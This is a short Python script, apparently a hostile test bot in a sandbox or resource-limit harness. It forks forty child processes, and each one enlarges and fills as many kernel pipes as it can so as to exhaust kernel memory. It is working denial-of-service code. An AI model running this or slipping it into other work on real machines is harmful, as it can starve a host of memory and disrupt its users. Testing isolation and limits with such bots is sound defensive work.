"""Fills pipes in forty processes: memory of the kernel's."""

import fcntl
import os
import signal

from hostile import Hostile, fork

CHILDREN = 40
F_SETPIPE_SZ = 1031


def fill_pipes():
    """Fill as many pipes as a process may have, and return the bytes in them."""
    total = 0
    try:
        while True:
            _, writing = os.pipe()
            try:
                fcntl.fcntl(writing, F_SETPIPE_SZ, 1 << 20)
            except OSError:
                pass
            os.set_blocking(writing, False)
            try:
                while True:
                    total += os.write(writing, bytes(1 << 16))
            except BlockingIOError:
                pass
    except OSError:
        return total


class Bot(Hostile):
    def attack(self):
        reading, telling = os.pipe()
        for _ in range(CHILDREN):
            if fork() == 0:
                os.write(telling, b"%d\n" % fill_pipes())
                signal.pause()
        totals = b""
        while totals.count(b"\n") < CHILDREN:
            totals += os.read(reading, 4096)
        return {"bytes": sum(map(int, totals.split()))}
